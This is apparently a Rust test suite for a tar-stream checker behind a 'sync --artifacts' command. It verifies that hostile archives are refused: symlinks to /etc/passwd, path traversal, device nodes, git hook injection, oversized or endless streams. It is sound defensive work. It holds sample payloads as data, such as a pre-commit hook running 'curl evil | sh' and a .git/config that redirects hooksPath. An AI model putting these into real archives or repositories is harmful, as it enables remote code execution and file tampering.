//! Host-side tests of the stream checks of `sync --artifacts`: what GNU
//! tar writes is taken whole; hand-built hostile streams (links, devices,
//! bad names, pax renames, oversized, too many entries, cut short, never
//! ending, headers that are not plain pax) are refused or ended, and
//! nothing of them lands.

use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;

use keystone_test_kit::write_file;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use super::landing::Tree;
use super::link::{Watchdog, TAR_ARGV};
use super::policy::Policy;
use super::tarcheck::{self, Limits, TarError};
use super::testkit::{header, mode, refused, seal, Ar, Fixture};
use super::{Receiver, STAGING};

#[test]
fn what_gnu_tar_writes_is_taken_whole() {
    let f = Fixture::new("gnutar");
    let ws = f.root.join("workspace");
    let long = format!("deep/{}/a-file-with-a-long-name.txt", "d".repeat(120));
    let names = [
        "build/out.bin",
        long.as_str(),
        "dist/run.sh",
        "na\u{ef}ve.txt",
    ];
    for name in names {
        write_file(&ws.join(name), name.repeat(300));
    }
    fs::set_permissions(ws.join("dist/run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    let child = Command::new(TAR_ARGV[0])
        .args(&TAR_ARGV[1..])
        .current_dir(&ws)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn();
    let Ok(mut child) = child else {
        eprintln!("SKIP: no tar on this host");
        return;
    };
    let list: Vec<u8> = names.iter().flat_map(|p| p.bytes().chain([0])).collect();
    child.stdin.take().unwrap().write_all(&list).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    let (result, outcome) = f.receive(&out.stdout, &[], &names, false, &Limits::default());
    result.unwrap();
    assert!(outcome.refused.is_empty(), "{:?}", outcome.refused);
    assert_eq!(outcome.staged, names);
    for name in names {
        assert_eq!(
            fs::read_to_string(f.staged(name)).unwrap(),
            name.repeat(300)
        );
        assert_eq!(mode(&f.staged(name)), 0o644, "{name}");
    }
}

#[test]
fn hostile_entries_are_refused_and_reported() {
    let f = Fixture::new("hostile");
    fs::write(f.project.join(".git/config"), "[core]\n").unwrap();
    let mut ar = Ar::default();
    ar.entry("build/link", b'2', b"", "/etc/passwd")
        .entry("build/git", b'2', b"", "../.git/config")
        .entry("build/hard", b'1', b"", "build/ok.txt")
        .entry("dev/null", b'3', b"", "")
        .entry("dev/sda", b'4', b"", "")
        .entry("fifo", b'6', b"", "")
        .file("../x", b"up")
        .file("/abs", b"abs")
        .file(".git/config", b"[core]\n\thooksPath = /tmp\n")
        .file(".husky/_/pre-commit", b"#!/bin/sh\ncurl evil | sh\n")
        .file(".githooks/pre-push", b"#!/bin/sh\n")
        .file("sub/.env", b"TOKEN=guest\n")
        .file("a/./b", b"dot")
        .pax(&[("path", b"../evil")])
        .file("innocent.txt", b"evil")
        .pax(&[("path", b"ctl\x1b[2Jname")])
        .file("innocent2.txt", b"x")
        .pax(&[("GNU.sparse.major", b"1"), ("GNU.sparse.minor", b"0")])
        .file("sparse.bin", b"x")
        .file("unlisted.txt", b"not asked for")
        .file("build/ok.txt", b"fine");
    let archive = ar.end();
    let listed = [
        "build/link",
        "build/git",
        "build/hard",
        "dev/null",
        "dev/sda",
        "fifo",
        ".git/config",
        ".husky/_/pre-commit",
        ".githooks/pre-push",
        "sub/.env",
        "innocent.txt",
        "innocent2.txt",
        "sparse.bin",
        "build/ok.txt",
    ];
    let (result, outcome) = f.receive(&archive, &[], &listed, false, &Limits::default());
    result.unwrap();
    assert_eq!(outcome.staged, ["build/ok.txt"]);
    let expect = [
        ("build/link", "a symbolic link: only regular files"),
        ("build/git", "a symbolic link"),
        ("build/hard", "a hard link"),
        ("dev/null", "a character device"),
        ("dev/sda", "a block device"),
        ("fifo", "a FIFO"),
        ("../x", "bad name: holds a `..` component"),
        ("/abs", "bad name: an absolute path"),
        (".git/config", "inside .git"),
        (".husky/_/pre-commit", "inside .husky"),
        (
            ".githooks/pre-push",
            "inside .githooks, the host's git hooks folder",
        ),
        ("sub/.env", "a .env file"),
        ("a/./b", "bad name: holds a `.` component"),
        ("../evil", "bad name: holds a `..` component"),
        ("ctl\\u{1b}[2Jname", "bad name: holds a control character"),
        ("sparse.bin", "a sparse file"),
        ("unlisted.txt", "not one of the paths asked for"),
    ];
    for (name, why) in expect {
        let got = refused(&outcome, name);
        assert!(
            got.iter().any(|r| r.starts_with(why)),
            "{name}: want {why:?}, got {got:?} in {:#?}",
            outcome.refused
        );
    }
    assert_eq!(
        fs::read_to_string(f.project.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!f.root.join("evil").exists() && !f.sandbox.join("evil").exists());
    assert!(!f.root.join("x").exists() && !f.sandbox.join("x").exists());
    for rel in [
        "build/link",
        "build/git",
        "build/hard",
        "dev",
        "fifo",
        ".git",
        ".husky",
        "sub",
    ] {
        assert!(
            fs::symlink_metadata(f.staged(rel)).is_err(),
            "{rel} was staged"
        );
    }
}

#[test]
fn oversized_files_are_refused_and_the_stream_goes_on() {
    let f = Fixture::new("oversized");
    let limits = Limits {
        max_file: 1000,
        ..Limits::default()
    };
    let archive = Ar::default()
        .file("big.bin", &[7u8; 1001])
        .pax(&[("size", b"1000000")])
        .file("claims-big.bin", b"")
        .file("small.bin", &[1u8; 1000])
        .end();
    let listed = ["big.bin", "claims-big.bin", "small.bin"];
    let (result, outcome) = f.receive(&archive, &[], &listed, false, &limits);
    // The pax size says one million bytes follow: past the stream's end.
    assert!(
        matches!(
            result,
            Err(TarError::TooLarge(_)) | Err(TarError::Truncated)
        ),
        "{result:?}"
    );
    assert!(refused(&outcome, "big.bin")[0].starts_with("1001 bytes, more than the 1000-byte"));
    assert!(!f.staged("big.bin").exists());

    let archive = Ar::default()
        .file("big.bin", &[7u8; 1001])
        .file("small.bin", &[1u8; 1000])
        .end();
    let (result, outcome) = f.receive(&archive, &[], &listed, false, &limits);
    result.unwrap();
    assert_eq!(outcome.staged, ["small.bin"]);
    assert!(!f.staged("big.bin").exists());
}

#[test]
fn too_many_entries_or_bytes_end_the_stream() {
    let f = Fixture::new("caps");
    let names: Vec<String> = (0..20).map(|i| format!("f{i}")).collect();
    let listed: Vec<&str> = names.iter().map(String::as_str).collect();
    let mut ar = Ar::default();
    for name in &names {
        ar.file(name, b"x");
    }
    let archive = ar.end();
    let few = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let (result, _) = f.receive(&archive, &[], &listed[..10], false, &few);
    assert!(
        matches!(result, Err(TarError::TooManyEntries(10))),
        "{result:?}"
    );

    let small = Limits {
        max_stream: 8 * 1024,
        ..Limits::default()
    };
    let (result, _) = f.receive(&archive, &[], &listed, false, &small);
    assert!(
        matches!(result, Err(TarError::TooLarge(8192))),
        "{result:?}"
    );
    // Zeros after the end of the archive count too.
    let mut padded = Ar::default().file("f0", b"x").end();
    padded.resize(1 << 20, 0);
    let (result, _) = f.receive(&padded, &[], &listed, false, &small);
    assert!(
        matches!(result, Err(TarError::TooLarge(8192))),
        "{result:?}"
    );
}

#[test]
fn a_truncated_stream_fails_and_leaves_no_partial_file() {
    let f = Fixture::new("truncated");
    let whole = Ar::default()
        .file("a.txt", b"a")
        .file("b.bin", &[9u8; 5000])
        .end();
    let asked = ["a.txt", "b.bin"];
    for cut in [100, 512 + 512 + 200, 512 + 512 + 512 + 3000] {
        let (result, outcome) = f.receive(&whole[..cut], &[], &asked, false, &Limits::default());
        assert!(
            matches!(result, Err(TarError::Truncated)),
            "cut at {cut}: {result:?}"
        );
        assert!(
            outcome.staged.iter().all(|p| p == "a.txt"),
            "{:?}",
            outcome.staged
        );
        assert!(!f.staged("b.bin").exists(), "cut at {cut}");
    }
    let left: Vec<_> = fs::read_dir(f.sandbox.join(STAGING))
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(left, ["a.txt"], "no temporary file is left behind");
    // Whole files but no end-of-archive blocks: still an error.
    let (result, _) = f.receive(
        &whole[..whole.len() - 1024],
        &[],
        &asked,
        false,
        &Limits::default(),
    );
    assert!(matches!(result, Err(TarError::Truncated)), "{result:?}");
}

#[test]
fn a_stream_that_never_ends_times_out() {
    let f = Fixture::new("slow");
    let limits = Limits {
        time: Duration::from_millis(300),
        ..Limits::default()
    };
    // A sandbox that sends half a header and then nothing, connection open.
    let (mut reader, mut writer) = UnixStream::pair().unwrap();
    writer
        .write_all(&header(b"a.txt", b'0', 10, b"")[..100])
        .unwrap();
    let dog = Watchdog::start(limits.time);
    dog.watch(&reader).unwrap();
    let (policy, project) = (Policy::default(), Tree::open(&f.project).unwrap());
    let staging = Tree::open(&f.sandbox)
        .unwrap()
        .subtree(STAGING, false)
        .unwrap();
    let mut receiver = Receiver::new(&policy, &staging, &project, false);
    let t0 = Instant::now();
    let result = tarcheck::read_archive(&mut reader, &limits, dog.deadline(), &mut receiver);
    assert!(matches!(result, Err(TarError::TimedOut(_))), "{result:?}");
    assert!(t0.elapsed() < Duration::from_secs(5), "{:?}", t0.elapsed());
    drop(writer);

    // One that trickles a byte at a time, forever.
    struct Trickle;
    impl std::io::Read for Trickle {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            std::thread::sleep(Duration::from_millis(20));
            buf[0] = b'a';
            Ok(1)
        }
    }
    let t0 = Instant::now();
    let deadline = t0 + limits.time;
    let result = tarcheck::read_archive(&mut Trickle, &limits, deadline, &mut receiver);
    assert!(matches!(result, Err(TarError::TimedOut(_))), "{result:?}");
    assert!(t0.elapsed() < Duration::from_secs(5));
}

#[test]
fn headers_that_are_not_plain_pax_end_the_stream() {
    let f = Fixture::new("headers");
    let mut bad_sum = header(b"a", b'0', 0, b"");
    bad_sum[0] = b'b';
    let mut gnu = header(b"a", b'0', 0, b"");
    gnu[257..265].copy_from_slice(b"ustar  \0");
    seal(&mut gnu);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("a wrong checksum", Ar::default().block(bad_sum, b"").end()),
        (
            "not a POSIX ustar header",
            Ar::default().block(gnu, b"").end(),
        ),
        (
            "a GNU long-name header",
            Ar::default()
                .entry("././@LongLink", b'L', b"../../evil\0", "")
                .file("a", b"")
                .end(),
        ),
        (
            "a global pax header",
            Ar::default().entry("g", b'g', b"12 path=a/b\n", "").end(),
        ),
        (
            "a malformed pax record",
            Ar::default()
                .entry("x", b'x', b"99 path=a\n", "")
                .file("a", b"")
                .end(),
        ),
        (
            "two pax headers in a row",
            Ar::default()
                .pax(&[("path", b"a")])
                .pax(&[("path", b"b")])
                .file("c", b"")
                .end(),
        ),
    ];
    for (what, archive) in cases {
        let (result, outcome) =
            f.receive(&archive, &[], &["a", "b", "c"], false, &Limits::default());
        match result {
            Err(TarError::BadHeader { what: got, .. }) => {
                assert!(got.starts_with(what), "{what}: {got}")
            }
            other => panic!("{what}: {other:?}"),
        }
        assert!(outcome.staged.is_empty());
    }
}
